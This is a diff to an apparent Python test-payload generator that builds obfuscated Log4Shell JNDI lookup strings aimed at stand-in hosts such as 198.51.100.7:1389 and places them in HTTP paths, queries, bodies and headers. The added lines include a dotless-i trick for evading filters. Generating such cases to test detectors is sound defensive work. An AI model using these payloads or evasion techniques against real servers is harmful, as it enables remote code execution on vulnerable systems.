@@ -125,6 +125,8 @@ def attack(random):
     service = random.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "nis", "corba"))
     depth = random.choice((0, 0, 1, 2, 3, 4))
     begin = hidden(random, word + ":", depth) if word == "jndi" else word + ":"
+    if word == "jndi" and random.random() < 0.1:    # the upper case of a dotless i is I
+        begin = "jnd${upper:\u0131}:"
     target = f"{hidden(random, service, random.choice((0, 0, 1, 2)))}://{random.choice(('198.51.100.7', '127.0.0.1#x', '[2001:db8::7]'))}:1389/a"
     text = "${" + begin + target + "}"
     if random.random() < 0.2:
@@ -170,7 +172,8 @@ def in_body(random, text):
 
 def mutant(random):
     text = text_of(random)
-    place = random.choice(("header", "cookie", "agent", "path", "query", "double", "body", "body", "body"))
+    places = ("path", "query", "double", "body", "body", "body")    # where servers read UTF-8
+    place = random.choice(places if not text.isascii() else places + ("header", "cookie", "agent"))
     method, target, headers, body = "GET", "/", [("Accept", "*/*")], b""
     if place in ("path", "query"):
         share = random.choice((0.2, 1))
